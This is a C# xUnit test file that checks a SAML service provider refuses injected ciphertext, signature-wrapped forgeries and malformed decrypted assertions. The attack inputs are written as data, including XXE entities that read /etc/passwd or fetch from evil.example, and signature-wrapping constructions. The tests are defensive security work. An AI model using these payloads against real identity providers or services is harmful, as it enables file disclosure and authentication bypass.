using System.Xml.Linq;
using ContextHandler.Testing;
using ContextHandler.Testing.Attacks;
using ContextHandler.Testing.Federation;
using static ContextHandler.Testing.Federation.Wire;

namespace ContextHandler.FunctionalTests.Attacks;

/// <summary>Everybody has our public key: that something is encrypted for us proves nothing about who wrote it.</summary>
public class InjectedCiphertextTests(AttackStage stage) : IClassFixture<AttackStage>
{
    /// <summary>What is encrypted in place of one genuine Assertion.</summary>
    private static readonly Dictionary<string, Func<string, string, string>> Plaintexts = new()
    {
        ["nothing"] = (_, _) => "",
        ["blanks"] = (_, _) => "  \n",
        ["text"] = (_, _) => "admin",
        ["text before"] = (genuine, _) => "admin" + genuine,
        ["text behind"] = (genuine, _) => genuine + "admin",
        ["a forged one before"] = (genuine, forged) => forged + genuine,
        ["a forged one behind"] = (genuine, forged) => genuine + forged,
        ["both in one element"] = (genuine, forged) => $"<x>{genuine}{forged}</x>",
        ["in a Response"] = (genuine, _) => $"<samlp:Response xmlns:samlp=\"{Protocol}\">{genuine}</samlp:Response>",
        ["in an EncryptedAssertion"] = (genuine, _) => $"<saml:EncryptedAssertion xmlns:saml=\"{Assertion}\">{genuine}</saml:EncryptedAssertion>",
        ["a document type"] = (genuine, _) => "<!DOCTYPE saml:Assertion>" + genuine,
        ["an entity from a file"] = (genuine, _) => "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>" + Edited.InText(genuine, "NameID", 0, "&e;"),
        ["an entity from an address"] = (genuine, _) => "<!DOCTYPE a [<!ENTITY % e SYSTEM \"http://evil.example/e\"> %e;]>" + genuine,
        ["a comment behind"] = (genuine, _) => genuine + "<!-- -->",
        ["a comment inside"] = (genuine, _) => Edited.InText(genuine, "NameID", 3, "<!-- -->"),
        ["a processing instruction"] = (genuine, _) => "<?x y?>" + genuine,
        ["CDATA"] = (genuine, _) => $"<![CDATA[{genuine}]]>",
        ["something encrypted inside"] = (genuine, _) => Edited.Replace(genuine, "<saml:Subject>", $"<xenc:EncryptedData xmlns:xenc=\"{Xenc}\"/><saml:Subject>"),
        ["something encrypted in something encrypted"] = (_, _) => $"<xenc:EncryptedData xmlns:xenc=\"{Xenc}\"/>",
        ["cut short"] = (genuine, _) => genuine[..^1],
        ["markup of its surroundings"] = (genuine, forged) => $"{genuine}</saml:EncryptedAssertion>{forged}<saml:EncryptedAssertion>",
    };

    public static TheoryData<string> EveryPlaintext => [.. Plaintexts.Keys];

    // CVE-2026-2092
    [Theory]
    [EachForm]
    public async Task E04_an_unsigned_assertion_that_the_attacker_encrypted(Form form)
    {
        using var login = await stage.BeginAsync();
        var genuine = login.Genuine(form);
        var forged = Forged.Assertion(login, genuine);
        var stranger = TestCertificates.Rsa("stranger");
        var isSigned = form is Form.SignedResponse or Form.BothSigned;

        await login.RefusedAsync(Ciphertext.Of(forged).In(genuine, login), isSigned ? "SignatureInvalid" : "SignatureMissing");
        await login.RefusedAsync(Ciphertext.Of(Forged.SignedBy(stranger, forged)).In(genuine, login), isSigned ? "SignatureInvalid" : "SigningKeyUnknown");
        await login.RefusedAsync(Ciphertext.Of(Forged.SignedBy(stage.OtherIdp.Plan.SigningCertificate, forged)).In(genuine, login), isSigned ? "SignatureInvalid" : "SigningKeyUnknown");
        await login.AcceptedAsync(genuine);
    }

    [Theory]
    [EachForm(Form.SignedAssertion, Form.BothSigned, Form.Encrypted)]
    public async Task E04_a_forged_assertion_with_the_genuine_one_or_its_signature_in_it(Form form)
    {
        using var login = await stage.BeginAsync();
        var genuine = login.Genuine(form);
        var envelope = new XDocument(genuine);
        envelope.Root!.Element(Ds + "Signature")?.Remove();
        var real = Forged.Open(login, genuine);

        var borrowed = Forged.Assertion(login, genuine);
        borrowed.SetAttributeValue("ID", real.Attribute("ID")!.Value);
        borrowed.Element(Assertion + "Issuer")!.AddAfterSelf(real.Element(Ds + "Signature"));
        await login.RefusedAsync(Ciphertext.Of(borrowed).In(envelope, login), "SignatureInvalid");

        var wrapping = Forged.Assertion(login, genuine);
        wrapping.Add(new XElement(Assertion + "Advice", real));
        var attack = Ciphertext.Of(wrapping).In(envelope, login);
        login.SignatureHolds(attack);
        await login.RefusedAsync(attack, "ElementMisplaced");
        await login.AcceptedAsync(genuine);
    }

    // A genuinely signed error is easily had: cancel the login. Nothing encrypted comes with it.
    [Fact]
    public async Task E04_an_encrypted_assertion_beside_a_signed_error()
    {
        using var login = await stage.BeginAsync();
        var genuine = login.Genuine(Form.SignedAssertion);
        var error = login.Genuine(Form.SignedResponse, IdpAnswer.Error("Responder", "AuthnFailed"));
        error.Root!.Add(Ciphertext.Of(Forged.Assertion(login, genuine)).For(login));

        await login.RefusedAsync(error, "StructureRefused");
        await login.AcceptedAsync(genuine);
    }

    [Theory]
    [EachForm]
    public async Task E05_an_encrypted_assertion_beside_another(Form form)
    {
        using var login = await stage.BeginAsync();
        var genuine = login.Genuine(form);
        var injected = Ciphertext.Of(Forged.Assertion(login, genuine)).For(login);
        var (before, behind) = (new XDocument(genuine), new XDocument(genuine));
        Forged.AssertionOf(before.Root!).AddBeforeSelf(injected);
        Forged.AssertionOf(behind.Root!).AddAfterSelf(injected);

        await login.RefusedAsync(before, "StructureRefused");
        await login.RefusedAsync(behind, "StructureRefused");
        await login.AcceptedAsync(genuine);
    }

    // Signed by the IdP: only that they are encrypted refuses them.
    [Theory]
    [EachForm(Form.SignedAssertion, Form.SignedResponse, Form.BothSigned)]
    public async Task E05_an_encrypted_name_or_attribute(Form form)
    {
        using var login = await stage.BeginAsync();
        var data = Ciphertext.Of("<x/>").For(login).Elements().Single();
        var name = login.Genuine(form, AttackedLogin.Good with
        {
            EditAssertion = xml => xml.Descendants(Assertion + "NameID").Single().ReplaceWith(new XElement(Assertion + "EncryptedID", data)),
        });
        var attribute = login.Genuine(form, AttackedLogin.Good with
        {
            EditAssertion = xml => xml.Element(Assertion + "AttributeStatement")!.Add(new XElement(Assertion + "EncryptedAttribute", data)),
        });
        var value = login.Genuine(form, AttackedLogin.Good with { EditAssertion = xml => xml.Descendants(Assertion + "AttributeValue").First().ReplaceNodes(data) });

        await login.RefusedAsync(name, "ElementMisplaced");
        await login.RefusedAsync(attribute, "ElementMisplaced");
        await login.RefusedAsync(value, "FieldMalformed");
        await login.AcceptedAsync(form);
    }

    // The platform's DecryptDocument opens whatever is encrypted, wherever it stands. Here it stays shut.
    [Theory]
    [EachForm(Form.SignedAssertion, Form.Encrypted)]
    public async Task E05_something_encrypted_elsewhere_in_the_message(Form form)
    {
        using var login = await stage.BeginAsync();
        var genuine = login.Genuine(form);
        var injected = Ciphertext.Of(Forged.Assertion(login, genuine)).For(login);
        XDocument InExtensions(XElement what)
        {
            var message = new XDocument(genuine);
            message.Root!.Element(Protocol + "Status")!.AddBeforeSelf(new XElement(Protocol + "Extensions", what));
            return message;
        }

        await login.RefusedAsync(InExtensions(injected), "ElementMisplaced");
        await login.AcceptedAsync(InExtensions(injected.Elements().Single()));
    }

    // CVE-2026-26171: what was encrypted is read as strictly as what was not, and what is wrong with it is not told (rule R13).
    [Theory]
    [MemberData(nameof(EveryPlaintext))]
    public async Task E06_a_plaintext_that_is_not_one_assertion(string what)
    {
        using var login = await stage.BeginAsync();
        var genuine = login.Genuine(Form.Encrypted);
        var real = Forged.Open(login, genuine).ToString(SaveOptions.DisableFormatting);
        var forged = Forged.Assertion(login, genuine).ToString(SaveOptions.DisableFormatting);

        await login.RefusedAsync(Ciphertext.Of(Plaintexts[what](real, forged)).In(genuine, login), "DecryptionFailed");
        await login.AcceptedAsync(Ciphertext.Of(real).In(genuine, login));
    }
}
